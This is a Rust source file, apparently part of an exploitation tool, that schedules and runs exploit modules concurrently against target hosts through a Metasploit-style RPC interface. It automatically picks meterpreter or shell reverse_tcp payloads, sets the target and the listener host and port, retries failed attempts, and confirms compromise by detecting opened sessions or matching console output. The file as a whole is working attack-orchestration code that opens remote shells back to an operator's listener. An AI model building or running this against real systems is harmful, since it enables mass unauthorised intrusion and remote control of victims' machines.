// ---------------------------------------------------------------------------
// Execution scheduler
// ---------------------------------------------------------------------------
//
// Runs exploit configurations as semaphore-gated tasks in a JoinSet. Each
// configuration resolves its payload once, then makes up to
// `retry_count + 1` attempts, each under its own deadline. Payload
// selection is charged to the first attempt's deadline. Only the final
// attempt becomes a result.

use std::collections::{HashMap, HashSet};
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use exploitmap_output::mask;
use exploitmap_rpc::{ConsoleLease, ExecuteResponse, ModuleHandle, RpcError};
use exploitmap_types::{ExploitConfiguration, ExploitResult, ExploitStatus};
use regex::Regex;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use crate::context::EngineContext;
use crate::error::AttemptError;
use crate::watch::WatchRequest;

/// Console phrases that count as success when no session was detected.
/// Whole words only: "unsuccessful" does not count.
static SUCCESS_PATTERN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:session\s+\d*\s*opened|meterpreter\s+session|command\s+shell\s+session|success(?:ful(?:ly)?)?)\b",
    )
    .expect("success pattern compiles")
});

/// Whether console output reports a successful exploit.
pub fn console_reports_success(output: &str) -> bool {
    SUCCESS_PATTERN.is_match(output)
}

const NO_SESSION: &str = "no session established";

/// Pick a payload from the module's compatible list: meterpreter for the
/// platform, then a platform shell, then the generic shell, then whatever
/// comes first.
pub fn select_payload(platform: Option<&str>, compatible: &[String]) -> Option<String> {
    let mut preferred = Vec::with_capacity(3);
    if let Some(platform) = platform.map(str::trim).filter(|p| !p.is_empty()) {
        let platform = platform.to_ascii_lowercase();
        preferred.push(format!("{platform}/meterpreter/reverse_tcp"));
        preferred.push(format!("{platform}/shell/reverse_tcp"));
    }
    preferred.push("generic/shell_reverse_tcp".to_string());

    preferred
        .into_iter()
        .find(|p| compatible.iter().any(|c| c == p))
        .or_else(|| compatible.first().cloned())
}

/// Platform for payload selection: the catalog's, else the second segment
/// of the module path (`exploit/windows/...` -> `windows`).
fn platform_of(config: &ExploitConfiguration) -> Option<String> {
    config
        .platform
        .clone()
        .filter(|p| !p.trim().is_empty())
        .or_else(|| {
            config
                .module_path
                .split('/')
                .nth(1)
                .filter(|s| !s.is_empty() && *s != "multi")
                .map(str::to_string)
        })
}

/// Terminal state of a single attempt.
struct AttemptOutcome {
    status: ExploitStatus,
    message: String,
    session_id: Option<String>,
}

impl AttemptOutcome {
    fn new(status: ExploitStatus, message: impl Into<String>) -> Self {
        Self {
            status,
            message: message.into(),
            session_id: None,
        }
    }

    fn session(session_id: String) -> Self {
        Self {
            status: ExploitStatus::Success,
            message: format!("session {session_id} opened"),
            session_id: Some(session_id),
        }
    }
}

pub struct ExecutionScheduler {
    ctx: Arc<EngineContext>,
}

impl ExecutionScheduler {
    pub fn new(ctx: Arc<EngineContext>) -> Self {
        Self { ctx }
    }

    /// Run every valid configuration with at most `max_workers` in flight.
    /// Returns once each of them has a result, in completion order.
    pub async fn run(
        &self,
        configs: Vec<ExploitConfiguration>,
        max_workers: usize,
        default_timeout: Duration,
    ) -> Vec<ExploitResult> {
        self.run_with_cancel(configs, max_workers, default_timeout, CancellationToken::new())
            .await
    }

    /// Like [`run`](Self::run). Cancelling aborts the attempts still in
    /// flight; those configurations produce no result.
    pub async fn run_with_cancel(
        &self,
        configs: Vec<ExploitConfiguration>,
        max_workers: usize,
        default_timeout: Duration,
        cancel: CancellationToken,
    ) -> Vec<ExploitResult> {
        let workers = max_workers.max(1);
        let semaphore = Arc::new(Semaphore::new(workers));
        let mut join_set: JoinSet<ExploitResult> = JoinSet::new();
        let mut pending: HashMap<tokio::task::Id, ExploitConfiguration> = HashMap::new();

        for config in configs {
            if let Err(e) = config.validate() {
                warn!(
                    module = %config.module_path,
                    host = %mask(&config.target_ip),
                    error = %mask(&e.to_string()),
                    "skipping invalid configuration"
                );
                continue;
            }

            let ctx = self.ctx.clone();
            let semaphore = semaphore.clone();
            let task_config = config.clone();
            let handle = join_set.spawn(async move {
                // The semaphore is never closed.
                let _permit = semaphore.acquire_owned().await.ok();
                execute_configuration(&ctx, &task_config, default_timeout).await
            });
            pending.insert(handle.id(), config);
        }

        info!(configurations = pending.len(), workers, "running exploits");
        let mut results = Vec::with_capacity(pending.len());

        loop {
            tokio::select! {
                _ = cancel.cancelled() => {
                    join_set.abort_all();
                    while let Some(joined) = join_set.join_next_with_id().await {
                        if let Ok((id, result)) = joined {
                            pending.remove(&id);
                            self.ctx.collector.add(result.clone());
                            results.push(result);
                        }
                    }
                    warn!(abandoned = pending.len(), "run cancelled");
                    break;
                }
                joined = join_set.join_next_with_id() => {
                    match joined {
                        Some(Ok((id, result))) => {
                            pending.remove(&id);
                            self.ctx.collector.add(result.clone());
                            results.push(result);
                        }
                        Some(Err(e)) => {
                            warn!(error = %mask(&e.to_string()), "exploit task failed");
                            if let Some(config) = pending.remove(&e.id()) {
                                let result = ExploitResult {
                                    timestamp: self.ctx.clock.now(),
                                    ..ExploitResult::for_config(
                                        &config,
                                        ExploitStatus::Error,
                                        format!("attempt task failed: {e}"),
                                    )
                                };
                                self.ctx.collector.add(result.clone());
                                results.push(result);
                            }
                        }
                        None => break,
                    }
                }
            }
        }

        results
    }
}

/// Resolve the payload, then attempt until success, a timeout, or the retry
/// budget runs out.
async fn execute_configuration(
    ctx: &EngineContext,
    config: &ExploitConfiguration,
    default_timeout: Duration,
) -> ExploitResult {
    let started = Instant::now();
    let timeout = config.timeout.unwrap_or(default_timeout);
    let first_deadline = started + timeout;

    let payload = match tokio::time::timeout_at(first_deadline, resolve_payload(ctx, config)).await {
        Ok(Ok(payload)) => payload,
        Ok(Err(e)) => {
            return ExploitResult {
                timestamp: ctx.clock.now(),
                execution_time: started.elapsed(),
                attempts: 0,
                ..ExploitResult::for_config(config, ExploitStatus::Error, e.to_string())
            };
        }
        Err(_) => {
            info!(
                module = %config.module_path,
                host = %mask(&config.target_ip),
                timeout_ms = timeout.as_millis(),
                "payload selection timed out"
            );
            return ExploitResult {
                timestamp: ctx.clock.now(),
                execution_time: started.elapsed(),
                attempts: 1,
                ..ExploitResult::for_config(
                    config,
                    ExploitStatus::Timeout,
                    format!("no payload selected within {:.1}s", timeout.as_secs_f64()),
                )
            };
        }
    };

    let max_attempts = config.retry_count.saturating_add(1);
    let mut attempt = 1;
    loop {
        debug!(module = %config.module_path, attempt, "attempt started");
        let deadline = if attempt == 1 {
            first_deadline
        } else {
            Instant::now() + timeout
        };
        let outcome = run_attempt(ctx, config, &payload, deadline, timeout).await;
        let result = ExploitResult {
            payload: Some(payload.clone()),
            timestamp: ctx.clock.now(),
            execution_time: started.elapsed(),
            session_id: outcome.session_id,
            attempts: attempt,
            ..ExploitResult::for_config(config, outcome.status, outcome.message)
        };

        if !result.status.is_retryable() || attempt >= max_attempts {
            return result;
        }
        ctx.collector.record_retry(&result, attempt);
        if !ctx.retry_backoff.is_zero() {
            tokio::time::sleep(ctx.retry_backoff).await;
        }
        attempt += 1;
    }
}

async fn resolve_payload(
    ctx: &EngineContext,
    config: &ExploitConfiguration,
) -> Result<String, AttemptError> {
    if let Some(payload) = config.requested_payload() {
        return Ok(payload.to_string());
    }
    match ctx.service.compatible_payloads(&config.module_path).await {
        Ok(compatible) => select_payload(platform_of(config).as_deref(), &compatible).ok_or(
            AttemptError::Payload {
                module: config.module_path.clone(),
            },
        ),
        Err(e) => {
            warn!(
                module = %config.module_path,
                error = %mask(&e.to_string()),
                fallback = %ctx.default_payload,
                "payload query failed, using default payload"
            );
            Ok(ctx.default_payload.clone())
        }
    }
}

/// One attempt under a hard deadline. The console lease is released on
/// every path, including the deadline.
async fn run_attempt(
    ctx: &EngineContext,
    config: &ExploitConfiguration,
    payload: &str,
    deadline: Instant,
    timeout: Duration,
) -> AttemptOutcome {
    let mut lease: Option<ConsoleLease> = None;
    let outcome = match tokio::time::timeout_at(deadline, drive(ctx, config, payload, &mut lease))
        .await
    {
        Ok(Ok(outcome)) => outcome,
        Ok(Err(e)) => AttemptOutcome::new(ExploitStatus::Error, e.to_string()),
        Err(_) => {
            info!(
                module = %config.module_path,
                host = %mask(&config.target_ip),
                timeout_ms = timeout.as_millis(),
                "attempt timed out"
            );
            AttemptOutcome::new(
                ExploitStatus::Timeout,
                format!("no result within {:.1}s", timeout.as_secs_f64()),
            )
        }
    };
    if let Some(lease) = lease.take() {
        lease.release().await;
    }
    outcome
}

async fn drive(
    ctx: &EngineContext,
    config: &ExploitConfiguration,
    payload: &str,
    lease: &mut Option<ConsoleLease>,
) -> Result<AttemptOutcome, AttemptError> {
    let console = lease.insert(ConsoleLease::acquire(ctx.service.clone()).await?);
    let known: HashSet<String> = ctx.service.list_sessions().await?.into_keys().collect();
    let module = build_module(ctx, config, payload)?;

    let claim = |session_id: &str| {
        ctx.tracker
            .register(session_id, &config.module_path, &config.target_ip)
    };

    match ctx.service.execute(&module).await? {
        ExecuteResponse::Session { session_id } => {
            if !claim(session_id.as_str()) {
                debug!(session = %session_id, "session already tracked");
            }
            Ok(AttemptOutcome::session(session_id))
        }
        ExecuteResponse::NoSession { message } => {
            let message = if message.trim().is_empty() {
                NO_SESSION.to_string()
            } else {
                message
            };
            Ok(AttemptOutcome::new(ExploitStatus::Failure, message))
        }
        ExecuteResponse::Job { job_id, uuid } => {
            debug!(job_id, module = %config.module_path, "module launched");
            let request = WatchRequest {
                known: &known,
                exploit_uuid: uuid.as_deref(),
                target_ip: &config.target_ip,
                claim: &claim,
            };
            if let Some(session_id) = ctx
                .watch
                .wait_for_session(ctx.service.as_ref(), &request)
                .await?
            {
                return Ok(AttemptOutcome::session(session_id));
            }

            let output = match console.read().await {
                Ok(output) => output,
                Err(e) => {
                    debug!(error = %mask(&e.to_string()), "console read failed");
                    String::new()
                }
            };
            if console_reports_success(&output) {
                Ok(AttemptOutcome::new(
                    ExploitStatus::Success,
                    "console reported success without a session id",
                ))
            } else {
                Ok(AttemptOutcome::new(ExploitStatus::Failure, NO_SESSION))
            }
        }
    }
}

fn build_module(
    ctx: &EngineContext,
    config: &ExploitConfiguration,
    payload: &str,
) -> Result<ModuleHandle, RpcError> {
    let mut module = ModuleHandle::new("exploit", config.module_path.as_str());
    module.set("RHOSTS", config.target_ip.as_str().into())?;
    module.set("RPORT", config.target_port.into())?;
    module.set("LHOST", ctx.listener.lhost.as_str().into())?;
    module.set("LPORT", ctx.listener.lport.into())?;
    module.set("PAYLOAD", payload.into())?;
    for (key, value) in config.user_options() {
        if key.eq_ignore_ascii_case("PAYLOAD") {
            continue;
        }
        module.set(key, value.clone())?;
    }
    Ok(module)
}
